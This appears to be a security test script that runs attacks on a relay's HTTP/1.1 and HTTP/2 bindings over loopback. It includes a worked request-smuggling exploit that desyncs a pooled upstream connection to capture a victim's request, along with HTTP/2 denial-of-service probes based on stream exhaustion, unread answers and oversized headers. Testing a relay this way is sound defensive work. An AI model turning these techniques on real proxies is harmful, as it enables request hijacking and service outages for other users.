# The attacks on the bindings' relay, each printing what the applications and the partner saw.
# usage: attacks.py NAME...   (run.sh sets the environment: RA_DIR, the bindings' ports)
#
# Ports (loopback): RA_H2 a binding to nginx with HTTP/2, RA_H1 a binding to nginx with
# HTTP/1.1 only, RA_P1 a binding to partner_h1.py, RA_P2 a binding to partner_h2.py.
import os, re, socket, subprocess, sys, threading, time

DIR = os.environ["RA_DIR"]
H2, H1, P1, P2 = (int(os.environ[k]) for k in ("RA_H2", "RA_H1", "RA_P1", "RA_P2"))


def call(port, data, wait=5.0, rcvbuf=0, once=False):
    """Sends `data` on a new connection; returns all that came back within `wait` (with
    `once`, what the first read brought), and closes the connection."""
    s = socket.socket()
    if rcvbuf:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
    s.connect(("127.0.0.1", port))
    s.sendall(data)
    s.settimeout(wait)
    out, t = b"", time.time()
    try:
        while time.time() - t < wait:
            d = s.recv(65536)
            if not d:
                out += b"<closed>"
                break
            out += d
            if once:
                break
    except socket.timeout:
        out += b"<timeout>"
    except OSError as e:
        out += b"<%s>" % type(e).__name__.encode()
    s.close()
    return out


def partner_log(port):
    try:
        return open(f"{DIR}/partner-{port}.log").read().splitlines()
    except FileNotFoundError:
        return []


def restart_partner_h1():
    """A fresh partner_h1 (its connections closed, so the relay's pool makes new ones)."""
    pid = open(f"{DIR}/partner_h1.pid").read().strip()
    subprocess.run(["kill", pid])
    time.sleep(0.5)
    p = subprocess.Popen(["nice", sys.executable, os.environ["RA_SRC"] + "/partner_h1.py", os.environ["RA_P1_UP"], "4096"],
                         stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, env=os.environ)
    open(f"{DIR}/partner_h1.pid", "w").write(str(p.pid))
    time.sleep(0.5)


def poison(length):
    """A1: a POST whose partner answers after 1 s, before reading the body, then reads the body.
    The application sends the whole body at once; the relay blocks writing its last part."""
    a = socket.create_connection(("127.0.0.1", P1))
    a.sendall(b"POST /slowread?1 HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n\r\n" % length)
    time.sleep(0.2)
    threading.Thread(target=lambda: a.sendall(b"A" * length), daemon=True).start()
    a.settimeout(10)
    got = b""
    while b"early\n" not in got:
        d = a.recv(4096)
        if not d:
            break
        got += d
    a.close()
    time.sleep(0.1)
    return got


def smuggle():
    """HTTP/1.1 path: an upstream connection goes back to the pool with the end of a request
    body never written; the next request on it is read by the partner as that body's end."""
    # 1. Calibrate: how many of A1's body bytes the relay writes before it blocks (the
    # partner's buffers and the relay's), on a fresh connection.
    up = os.environ["RA_P1_UP"]
    probe = b"GET /probe HTTP/1.1\r\nHost: x\r\nX-Pad: " + b"p" * 400 + b"\r\n\r\n"
    relayed_probe = len(b"GET /probe HTTP/1.1\r\nhost: 127.0.0.1:%s\r\nX-Pad: " % up.encode()) + 400 + 4
    length, total = 3_000_000, None
    for attempt in range(40):
        restart_partner_h1()
        before = len(partner_log(int(up)))
        a1 = poison(length)
        answer = call(P1, probe, 6)
        log = partner_log(int(up))[before:]
        done = [l for l in log if "slowread body complete" in l]
        cut = [l for l in log if "slowread body got" in l]
        own = b'"line": "GET /probe HTTP/1.1"' in answer
        eaten = len(eval(done[-1].split("its last bytes: ", 1)[1]).split(b"A")[-1]) if done else 0
        if eaten:
            total = length - eaten
        elif cut and not own:
            total = int(re.search(r"got (\d+)/", cut[-1]).group(1)) - relayed_probe
        elif b"connection: close" in a1:
            length -= 8192  # A1's last part was not even read when the answer came
            continue
        else:
            length += 8192  # A1's body was all written before the answer came
            continue
        print(f"calibrated with A1's Content-Length {length}: {total} bytes of its body reached the "
              f"partner, the rest was never sent, and the partner took the next request's head as it")
        print(f"  the probe (another connection) got: {answer[:100]!r}")
        break
    if total is None:
        print("could not calibrate (the partner never answered while the relay was blocked)")
        return
    # 2. Exploit on a fresh connection: A2's relayed head is exactly what the partner still
    # expects of A1's body, so the partner parses A2's *body* as requests.
    restart_partner_h1()
    raw = (b"GET /smuggled-1 HTTP/1.1\r\nHost: a\r\n\r\n"
           b"GET /sleep?0.5&ANSWER-CHOSEN-BY-ATTACKER HTTP/1.1\r\nHost: a\r\n\r\n")
    relayed_head = b"POST /x HTTP/1.1\r\nhost: 127.0.0.1:%s\r\ncontent-length: %d\r\n\r\n" % (up.encode(), len(raw))
    before = len(partner_log(int(up)))
    print("A1 (attacker) got:", poison(total + len(relayed_head)))
    a2 = b"POST /x HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n\r\n" % len(raw) + raw
    print("A2 (attacker) sent:", a2)
    print("A2 (attacker) got:", call(P1, a2, 4, once=True))
    time.sleep(0.05)
    v = b"GET /victim HTTP/1.1\r\nHost: x\r\nX-Secret: victim-token-123\r\n\r\n"
    print("V  (another application) sent:", v)
    print("V  got:", call(P1, v, 4, once=True))
    print("the partner parsed:")
    for l in partner_log(int(up))[before:]:
        if "its last bytes" in l:
            print("  ", l[:70], "...", l[-120:])
        elif "fill:" not in l:
            print("  ", l[:220])


def h2_unread():
    """HTTP/2 path: three connections that never read their answers stall everyone's answers."""
    hold = []
    for _ in range(3):
        s = socket.socket()
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        s.connect(("127.0.0.1", H2))
        s.sendall(b"GET /huge.bin HTTP/1.1\r\nHost: x\r\n\r\n")
        hold.append(s)
    for label, pause in (("2 s", 2), ("20 s", 18)):
        time.sleep(pause)
        t = time.time()
        out = call(H2, b"GET /index.html HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n", 8)
        print(f"after {label}, another application's GET /index.html got in {time.time() - t:.1f} s: {out[:90]!r}")
    for s in hold:
        s.close()
    time.sleep(1)
    out = call(H2, b"GET /index.html HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n", 8)
    print(f"once they closed: {out[:40]!r}")


def h2_streams(n=130):
    """HTTP/2 path: one uid's slow request bodies take every stream the partner allows."""
    hold = []
    for _ in range(n):
        s = socket.create_connection(("127.0.0.1", H2))
        s.sendall(b"POST /be/x HTTP/1.1\r\nHost: x\r\nContent-Length: 1000000\r\n\r\nx")
        hold.append(s)
    stop = []

    def drip():
        while not stop:
            time.sleep(1)
            for s in hold:
                try:
                    s.send(b"x")
                except OSError:
                    pass
    threading.Thread(target=drip, daemon=True).start()
    time.sleep(2)
    out = call(H2, b"GET /index.html HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n", 8)
    print(f"with {n} bodies dripping at 1 byte/s, another application's GET got: {out[:70]!r}")
    stop.append(1)
    for s in hold:
        s.close()


def h2_bighdr():
    """HTTP/2 path: one request with a 20 KB header makes nginx close the shared connection."""
    b = socket.create_connection(("127.0.0.1", H2))
    b.sendall(b"POST /be/upload HTTP/1.1\r\nHost: x\r\nContent-Length: 20000\r\n\r\n" + b"u" * 10000)
    time.sleep(1)
    a = call(H2, b"GET /be/a HTTP/1.1\r\nHost: x\r\nX-Long: " + b"a" * 20000 + b"\r\n\r\n", 4)
    print("A (20 KB header) got:", a[:100])
    time.sleep(0.5)
    try:
        b.sendall(b"u" * 10000)
    except OSError as e:
        print("B:", e)
    b.settimeout(6)
    try:
        print("B (another application, upload in flight) got:", b.recv(300)[:200])
    except OSError as e:
        print("B:", e)


def slow_upload():
    """HTTP/1.1 path: a body that keeps coming, a byte every 0.5 s, gets a 408 that says it
    stopped; the HTTP/2 path relays it."""
    for port, name in ((H1, "HTTP/1.1 partner"), (H2, "HTTP/2 partner")):
        s = socket.create_connection(("127.0.0.1", port))
        t = time.time()
        s.sendall(b"POST /be/b HTTP/1.1\r\nHost: x\r\nContent-Length: 10\r\n\r\n")
        for i in range(10):
            time.sleep(0.5)
            try:
                s.send(b"x")
            except OSError as e:
                print(f"  ({name}: send {i} failed at {time.time() - t:.1f} s: {e})")
                break
        s.settimeout(5)
        try:
            print(f"{name}: {time.time() - t:.1f} s: {s.recv(300)[:150]!r}")
        except OSError as e:
            print(f"{name}: {e}")


def h2_goaway(total=2400, conc=6):
    """HTTP/2 path: nginx's GOAWAY after 1000 requests on a connection fails requests in flight."""
    import collections
    res = collections.Counter()
    lock = threading.Lock()

    def worker(n):
        s = None
        for _ in range(n):
            try:
                if s is None:
                    s = socket.create_connection(("127.0.0.1", H2))
                    s.settimeout(10)
                s.sendall(b"GET /index.html HTTP/1.1\r\nHost: x\r\n\r\n")
                out = b""
                while b"\r\n\r\n" not in out:
                    d = s.recv(65536)
                    if not d:
                        raise EOFError
                    out += d
                head, _, body = out.partition(b"\r\n\r\n")
                m = re.search(rb"content-length: (\d+)", head, re.I)
                while m and len(body) < int(m.group(1)):
                    body += s.recv(65536)
                st = head[9:12].decode()
                if b"connection: close" in head.lower():
                    s.close()
                    s = None
            except Exception as e:  # noqa: BLE001
                st, s = type(e).__name__, None
            with lock:
                res[st] += 1
    ts = [threading.Thread(target=worker, args=(total // conc,)) for _ in range(conc)]
    [t.start() for t in ts]
    [t.join() for t in ts]
    print(f"{total} GETs, {conc} at a time, through the HTTP/2 binding:", dict(res))


def h2_rst_noerror():
    """HTTP/2 path: a stream reset with NO_ERROR before END_STREAM reaches the application as a
    whole chunked answer (CANCEL and INTERNAL_ERROR are cut off)."""
    for code in (0, 8, 2):
        out = call(P2, b"GET /rst-mid-chunked?%d HTTP/1.1\r\nHost: x\r\n\r\n" % code, 4)
        print(f"RST_STREAM code {code} after 'half': {out!r}")


def hostile_h1():
    """Hostile HTTP/1.1 answers (all held: a 502/504, or a closed connection, and the next
    request on a new connection gets its own answer)."""
    cases = ["/extra", "/204body", "/304body", "HEAD /headbody", "/1xxflood?2000", "/101", "/drip",
             "/hdrflood", "/tlsclose", "/tcpclose", "/chunkclose", "/untilclose", "/1xxslow",
             "/extra-late?0.3"]
    for p in cases:
        method = b"GET"
        if p.startswith("HEAD "):
            method, p = b"HEAD", p[5:]
        t = time.time()
        out = call(P1, method + b" " + p.encode() + b" HTTP/1.1\r\nHost: x\r\n\r\nGET /next HTTP/1.1\r\nHost: x\r\n\r\n", 5)
        chk = call(P1, b"GET /check HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n", 5)
        ok = b'"line": "GET /check HTTP/1.1"' in chk
        print(f"{p} ({time.time() - t:.1f} s): {out[:160]!r}\n   the next application gets its own answer: {ok}")


ATTACKS = {f.__name__.replace("_", "-"): f for f in
           (smuggle, h2_unread, h2_streams, h2_bighdr, slow_upload, h2_goaway, h2_rst_noerror, hostile_h1)}

if __name__ == "__main__":
    for name in sys.argv[1:] or ATTACKS:
        print(f"===== {name}: {ATTACKS[name].__doc__.strip().splitlines()[0]}")
        ATTACKS[name]()
